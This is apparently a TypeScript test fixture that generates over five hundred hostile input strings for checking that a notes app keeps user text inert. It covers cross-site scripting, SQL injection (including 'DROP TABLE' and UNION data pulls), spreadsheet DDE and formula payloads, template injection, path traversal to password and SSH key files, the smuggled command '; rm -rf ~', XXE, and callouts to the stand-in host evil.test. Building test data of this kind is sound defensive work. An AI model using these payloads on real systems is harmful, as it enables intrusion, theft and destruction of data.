/** Words that must stay words, wherever they are written: what notes of strangers, and of people who paste, can hold. */

const scripts = ['<script>alert(1)</script>', '<SCRIPT SRC=//evil.test/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<svg><script>alert(1)</script></svg>', '"><script>alert(1)</script>', "'-alert(1)-'", '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '<!--<script>-->alert(1)', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<base href="https://evil.test/">', '<meta http-equiv="refresh" content="0;url=https://evil.test">', '<link rel=stylesheet href=https://evil.test/x.css>', '<object data="javascript:alert(1)"></object>', '<embed src="https://evil.test/x.swf">', '<form action=https://evil.test><button>Klik</button></form>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=javascript:alert(1)>'];
const elements = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'marquee', 'a', 'div', 'iframe', 'object', 'select', 'textarea', 'button', 'math', 'style'];
const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforeinput', 'onstart'];
const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'ms-msdt:/id PCWDiagnostic', 'search-ms:query=x', String.raw`\\evil.test\share\x.lnk`, 'smb://evil.test/share', 'https://evil.test/?q=naam', '//evil.test/pixel.png', 'app://bundle/../../etc/passwd', 'blob:null/x', 'view-source:https://evil.test', 'mailto:x@evil.test?body=y', 'tel:+32470000000', 'chrome://settings'];
const linkShapes = [(to: string) => `[klik](${to})`, (to: string) => `![](${to})`, (to: string) => `<a href="${to}">klik</a>`, (to: string) => `<img src='${to}'>`, (to: string) => to, (to: string) => `[ref]: ${to}`];
const styles = ['<style>*{display:none}</style>', '<div style="position:fixed;inset:0;background:red">', '<p style=background:url(https://evil.test/x)>', '@import url(https://evil.test/x.css);', '</style><style>body{visibility:hidden}', '<div id=api></div>', '<form id=shell><input name=api></form>', '<img name=environment>', '<a id=events href=x>', '<input name=__proto__>', 'expression(alert(1))', '-moz-binding:url(//evil.test/x)', 'behavior:url(x.htc)', '<div class="veil modal">', '<svg><style>@import "//evil.test"</style></svg>'];
const looks = ['Kаrel', 'Zoе Маes', 'ⅰnstellingen', 'раypal', '\u202Egnp.exe', '\u202Dtekst\u202C', '\u2066links\u2069', '\u2067rechts\u2069', 'on\u00ADzicht\u00ADbaar', 'nul\u200Cbreed\u200D', 'a\u0301\u0302\u0303\u0304\u0305', 'Z̷͎̐a̸͍͝l̵̰̽g̴̱̒o̶̙͝', '👩‍👩‍👧‍👦', '🏳️‍🌈', '\u{E0041}\u{E0042}', 'İıŞşĞğ', 'ﬁnanciën', 'ﷺ', '𝕲𝖊𝖍𝖊𝖎𝖒', '\uFFFC', 'A\u030A', '…\u2028…\u2029…', '\u0085', '\u007F', '漢字かなカナ', 'مرحبا بالعالم', 'שלום', 'नमस्ते', '"aanhaling”', "D'hondt’s"];
const sql = ["' OR 1=1 --", "'; DROP TABLE coachee; --", '" OR ""="', "1; PRAGMA key='x'", "') UNION SELECT key, value FROM vault_meta --", "'||(SELECT hex(randomblob(9)))||'", 'NULL', "x' AND 1=(SELECT COUNT(*) FROM sqlite_master)--", '%', '_', '?1', ':naam', '@naam', '$naam', "ATTACH DATABASE 'elsewhere.db' AS x", 'VACUUM;', '/* */', '`coachee`', '[coachee]', "char(0x41)"];
const fullText = ['"', '""', '"open', '*', 'woord*', '^begin', 'a AND b', 'a OR b', 'NOT a', 'NEAR(a b, 3)', 'words : x', '{words kind} : x', '- x', '+x', '(a', 'a)', 'a"b"c', 'kind : kindswv', 'rank MATCH x', 'a  AND  AND b'];
const formulas = ['=1+1', "=cmd|'/c calc'!A0", '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("https://evil.test?x="&A1,"klik")', '=IMPORTXML("https://evil.test","//a")', '\t=1+1', '=WEBSERVICE("https://evil.test")', '=DDE("cmd";"/c calc";"1")'];
const templates = ['{{name}}', '{{constructor.constructor("alert(1)")()}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '$t(common:delete)', '{{- name }}', '{0}', '%s %d %n', '%n%n%n%n', '$(id)', '`id`', '{{count}} {{other', '[[naam]]', '{name}', '<naam>', '&lt;b&gt;', '&#x3C;script&#x3E;', '&amp;amp;', '\\u003cscript\\u003e', '%3Cscript%3E', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', '[object Object]', 'true', '0', '-0', '1e999', 'Infinity'];
const paths = ['../../../../etc/passwd', String.raw`..\..\..\Windows\System32\config\SAM`, '%2e%2e%2f%2e%2e%2f', '/dev/null', 'C:\\Windows\\win.ini', 'file.txt:stream', 'CON', 'NUL.txt', 'aux', '~/.ssh/id_ed25519', '....//....//', 'naam.pdf.exe', '.htaccess', 'a/b/c', '|ls', '; rm -rf ~', '&& calc', '> uitvoer.txt', '$HOME', '%USERPROFILE%'];
const structures = ['# kop', '> citaat', '- [ ] taak', '| a | b |\n|---|---|', '```js\nalert(1)\n```', '***vet***', '<details><summary>x</summary></details>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0"?>', '<![CDATA[x]]>', 'BEGIN:VCALENDAR', 'X\r\nBCC: x@evil.test', 'regel\r\nregel', 'regel\nregel', 'tab\ttab', ' spatie voor en na ', '\u00A0harde spatie\u00A0', '{"json":true}', '[1,2,3]', '<w:p/>'];
const deep = ['['.repeat(150), '>'.repeat(150), '<b>'.repeat(60), '('.repeat(150), '*'.repeat(150), '𝒳'.repeat(60), 'a'.repeat(180), 'e\u0301'.repeat(60)];

/** Each of them once; more than five hundred. */
export const payloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1) src=x autofocus>`)),
    ...schemes.flatMap((to) => linkShapes.map((shape) => shape(to))),
    ...styles,
    ...looks,
    ...sql,
    ...fullText,
    ...formulas,
    ...templates,
    ...paths,
    ...structures,
    ...deep,
    ...scripts.map((script) => `Notitie vooraf ${script} en erna`),
    ...sql.map((piece) => `Zoë${piece}`),
  ]),
];
